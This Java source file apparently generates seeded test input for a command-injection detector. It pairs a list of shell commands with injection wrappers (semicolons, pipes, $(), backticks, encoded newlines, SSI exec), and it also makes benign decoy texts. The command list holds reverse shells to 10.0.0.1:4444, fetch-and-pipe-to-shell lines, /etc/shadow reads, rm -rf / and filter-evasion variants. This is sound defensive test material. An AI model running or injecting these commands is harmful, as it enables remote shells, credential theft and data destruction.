package dev.tocsin.inspect;

import static java.nio.charset.StandardCharsets.UTF_8;

import java.util.ArrayList;
import java.util.Base64;
import java.util.List;
import java.util.Locale;
import java.util.Random;
import java.util.UUID;

/** Honest input that no corpus has: what forms, links and programs send. Seeded. */
final class LabGenerated {
  private static final int EACH = 500;

  private static final List<String> SHELL_COMMANDS =
      List.of(
          "id",
          "whoami",
          "ls",
          "ls -la",
          "ls -l /",
          "cat /etc/passwd",
          "cat /etc/shadow",
          "pwd",
          "uname -a",
          "sleep 5",
          "sleep 10",
          "ping -c 3 127.0.0.1",
          "ping -n 5 127.0.0.1",
          "curl http://a.example/x",
          "wget http://a.example/x.sh",
          "wget -O- http://a.example/x | sh",
          "curl http://a.example | bash",
          "nc -e /bin/sh 10.0.0.1 4444",
          "nc -lvp 4444",
          "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1",
          "python -c 'import os; os.system(\"id\")'",
          "perl -e 'print 1'",
          "php -r 'phpinfo();'",
          "echo test",
          "echo $((1+1))",
          "rm -rf /",
          "rm -f /tmp/x",
          "touch /tmp/x",
          "ps aux",
          "ps -ef",
          "netstat -an",
          "ifconfig",
          "ipconfig /all",
          "ip addr",
          "dir",
          "dir C:\\",
          "type C:\\boot.ini",
          "net user",
          "net user a b /add",
          "systeminfo",
          "tasklist",
          "reboot",
          "shutdown -h now",
          "env",
          "set",
          "printenv",
          "which python",
          "find / -name x",
          "nslookup a.example",
          "host a.example",
          "dig a.example",
          "powershell -c ls",
          "powershell IEX(1)",
          "cmd /c dir",
          "/bin/ls",
          "/bin/cat /etc/passwd",
          "/usr/bin/id",
          "/bin/sh",
          "sh -c id",
          "chmod 777 x",
          "kill -9 1",
          "mkdir x",
          "cp a b",
          "mv a b",
          "telnet 10.0.0.1",
          "cat${IFS}/etc/passwd",
          "cat</etc/passwd",
          "head /etc/passwd",
          "tail -n 5 /etc/hosts",
          "sudo id",
          "c'a't /etc/passwd",
          "w\\hoami",
          "timeout 5",
          "expr 1 + 1",
          "base64 -d x",
          "tftp -i 10.0.0.1 get x");

  private static final List<String> FORMS =
      List.of(
          ";@",
          "; @",
          ";@;",
          " ; @ ;",
          "|@",
          "| @",
          "|@|",
          "||@",
          "|| @",
          "||@|",
          "&@",
          "& @",
          "&@&",
          "&&@",
          "&& @",
          "`@`",
          "$(@)",
          "\n@\n",
          "%0a@",
          "%0A@%0A",
          "\\n@\\n",
          "a;@;",
          "1|@",
          "';@;'",
          "\";@;\"",
          "'|@|'",
          "\"|@|\"",
          "';@ #",
          "\" && @ && \"",
          ");@",
          "x`@`",
          "x$(@)",
          "%3B@",
          "%7C@",
          "%26%26@",
          "a=1;@",
          "127.0.0.1;@",
          "127.0.0.1 && @",
          "127.0.0.1 | @",
          "{@}",
          "system('@')",
          "exec('@')",
          "<!--#exec cmd=\"@\"-->",
          "| @ #",
          "$;@",
          "@|",
          "@;");

  private final Random random = new Random(20261129);
  private final List<String> words;
  private final List<String> texts = new ArrayList<>();

  /**
   * Makes them.
   *
   * @param words that texts are made of, names and questions
   */
  LabGenerated(List<String> words) {
    this.words = words;
  }

  /** Commands behind, or in, what ends the command that they are put into. */
  static List<String> commands() {
    List<String> all = new ArrayList<>();
    for (String command : SHELL_COMMANDS) {
      for (String form : FORMS) {
        all.add(form.replace("@", command));
      }
    }
    return all;
  }

  List<String> texts() {
    for (int i = 0; i < EACH; i++) {
      texts.add(base64(8 + random.nextInt(200)));
      texts.add("data:image/png;base64," + base64(100));
      texts.add(new UUID(random.nextLong(), random.nextLong()).toString());
      texts.add(token() + "." + base64(60) + "." + base64(32));
      texts.add(word() + "." + word() + "@" + word() + ".example");
      texts.add(person() + " <" + word() + "@" + word() + ".example>");
      texts.add("https://" + word() + ".example/" + word() + "/" + word() + "?" + query());
      texts.add("/" + word() + "/" + word() + "/" + random.nextInt(10_000) + ".html#" + word());
      texts.add(query());
      texts.add(json());
      texts.add(array());
      texts.add(person());
      texts.add(number());
      texts.add(markdown());
      texts.add(address());
      texts.add("\"" + phrase() + "\" -" + word() + " site:" + word() + ".example");
      texts.add(phrase() + " & " + phrase() + " (" + (1900 + random.nextInt(150)) + ")");
      texts.add(phrase() + "; " + phrase() + "\n\n> " + phrase() + "\n- " + phrase() + "!");
      texts.add(template());
      texts.add(file());
      texts.add(sentence());
      texts.add(sentence() + " " + sentence());
    }
    return texts;
  }

  private String word() {
    String word = words.get(random.nextInt(words.size())).split(" ", 2)[0];
    String plain = word.replaceAll("[^A-Za-z0-9]", "").toLowerCase(Locale.ROOT);
    return plain.isEmpty() ? "item" : plain;
  }

  private String phrase() {
    return words.get(random.nextInt(words.size()));
  }

  private String person() {
    String first = capital(word());
    String last = capital(word());
    return switch (random.nextInt(7)) {
      case 0 -> first + " O'" + last;
      case 1 -> first + " D'" + last + "-" + capital(word());
      case 2 -> last + ", " + first + " (" + word() + ")";
      case 3 -> first + " \"" + capital(word()) + "\" " + last;
      case 4 -> first + " d\u2019" + last + " & Sons";
      case 5 -> "N'" + last + " " + first + " Jr.";
      default -> first + " " + last;
    };
  }

  private static String capital(String word) {
    return word.substring(0, 1).toUpperCase(Locale.ROOT) + word.substring(1);
  }

  private String base64(int bytes) {
    byte[] raw = new byte[bytes];
    random.nextBytes(raw);
    return Base64.getEncoder().encodeToString(raw);
  }

  private String token() {
    return Base64.getUrlEncoder()
        .encodeToString("{\"alg\":\"HS256\",\"typ\":\"JWT\"}".getBytes(UTF_8));
  }

  private String query() {
    StringBuilder query = new StringBuilder();
    for (int i = 0; i <= random.nextInt(5); i++) {
      query.append(i == 0 ? "" : "&").append(word()).append('=');
      query.append(
          random.nextBoolean() ? word() : phrase().replace(" ", "%20").replace("'", "%27"));
    }
    return query.toString();
  }

  private String json() {
    StringBuilder json = new StringBuilder("{");
    for (int i = 0; i <= random.nextInt(8); i++) {
      json.append(i == 0 ? "" : random.nextBoolean() ? ", " : ",");
      json.append('"').append(word()).append("\": ");
      json.append(
          switch (random.nextInt(6)) {
            case 0 -> random.nextInt(1000);
            case 1 -> random.nextBoolean();
            case 2 -> "null";
            case 3 -> "[" + random.nextInt(9) + ",\"" + word() + "\"]";
            case 4 -> "{\"" + word() + "\":\"" + phrase().replace("\"", "\\\"") + "\"}";
            default -> "\"" + phrase().replace("\"", "\\\"") + "\"";
          });
    }
    return json.append('}').toString();
  }

  private String array() {
    List<String> all = new ArrayList<>();
    for (int i = 0; i <= random.nextInt(6); i++) {
      all.add(random.nextBoolean() ? "'" + phrase() + "'" : Integer.toString(random.nextInt(100)));
    }
    return all.toString();
  }

  private String number() {
    return switch (random.nextInt(8)) {
      case 0 -> "$" + random.nextInt(10_000) + ".99";
      case 1 -> "+49 (0)" + random.nextInt(999) + "/" + random.nextInt(1_000_000);
      case 2 -> random.nextInt(100) + "% off";
      case 3 ->
          "2026-0"
              + (1 + random.nextInt(9))
              + "-1"
              + random.nextInt(9)
              + "T12:0"
              + random.nextInt(9)
              + ":00+01:00";
      case 4 ->
          random.nextInt(100) + " * (" + random.nextInt(100) + " + " + random.nextInt(9) + ") = ?";
      case 5 -> random.nextInt(7) + "'" + random.nextInt(12) + "\" tall";
      case 6 -> "#" + Integer.toHexString(random.nextInt(1 << 24));
      default -> random.nextInt(32) + "/" + random.nextInt(12) + "/" + (1990 + random.nextInt(40));
    };
  }

  private String markdown() {
    return "## "
        + phrase()
        + "\n\n* **"
        + word()
        + "**: `"
        + word()
        + "("
        + word()
        + ")`\n* ["
        + phrase()
        + "](https://"
        + word()
        + ".example/"
        + word()
        + ")\n\n| "
        + word()
        + " | "
        + word()
        + " |\n| --- | --- |\n";
  }

  private String address() {
    return capital(word())
        + " St. "
        + random.nextInt(300)
        + "/"
        + random.nextInt(9)
        + ", Apt #"
        + random.nextInt(99)
        + "\n"
        + (10_000 + random.nextInt(80_000))
        + " "
        + capital(word());
  }

  private String template() {
    return switch (random.nextInt(6)) {
      case 0 -> "Dear {{" + word() + "}}, " + phrase() + " <3";
      case 1 -> "if (" + word() + " > " + random.nextInt(9) + ") { return \"" + word() + "\"; }";
      case 2 -> word() + " := func(" + word() + " string) error { return nil }";
      case 3 -> "for " + word() + " in " + word() + ":\n    print(\"" + phrase() + "\")";
      case 4 ->
          "<p>"
              + phrase()
              + " <b>"
              + word()
              + "</b>, <a href=\"https://"
              + word()
              + ".example\">"
              + word()
              + "</a></p>";
      default -> word() + " = '" + phrase() + "' # " + phrase();
    };
  }

  /** With words that statements and commands are made of, too. */
  private String sentence() {
    String one = word();
    String other = word();
    String sentence =
        switch (random.nextInt(16)) {
          case 0 -> "please select a " + one + " from the " + other;
          case 1 -> "Select one or more " + one + "s, then order by " + other + ".";
          case 2 -> "drop the table off at " + one + ", or call " + other;
          case 3 -> "Update your " + one + " and set a new " + other;
          case 4 -> "the " + one + " union and its " + other + " workers";
          case 5 -> "insert coin into " + one + "; delete nothing";
          case 6 -> "where do I find a " + one + " like '" + other + "'?";
          case 7 ->
              one + " having " + random.nextInt(9) + " or " + random.nextInt(9) + " " + other + "s";
          case 8 -> "group by " + one + " (not by " + other + ")";
          case 9 -> "a script for the " + one + ": alert the " + other + "!";
          case 10 -> "my cat & the " + one + " - echo of a " + other;
          case 11 -> "ping me, or find " + one + " in /" + other + "/";
          case 12 -> "between " + one + " and " + other + " is null";
          case 13 -> "values: " + one + ", " + other + " as of " + (1990 + random.nextInt(40));
          case 14 -> "it's " + one + "'s " + other + " and isn't " + word() + "'s -- I think";
          default -> "create an account, alter it, or delete " + one + " from it";
        };
    return random.nextBoolean() ? sentence : capital(sentence);
  }

  private String file() {
    return switch (random.nextInt(4)) {
      case 0 -> "C:\\Users\\" + word() + "\\Documents\\" + word() + ".docx";
      case 1 -> "/home/" + word() + "/" + word() + ".txt";
      case 2 -> "./" + word() + "/" + word() + ".png";
      default -> word() + " (" + random.nextInt(9) + ").pdf";
    };
  }
}
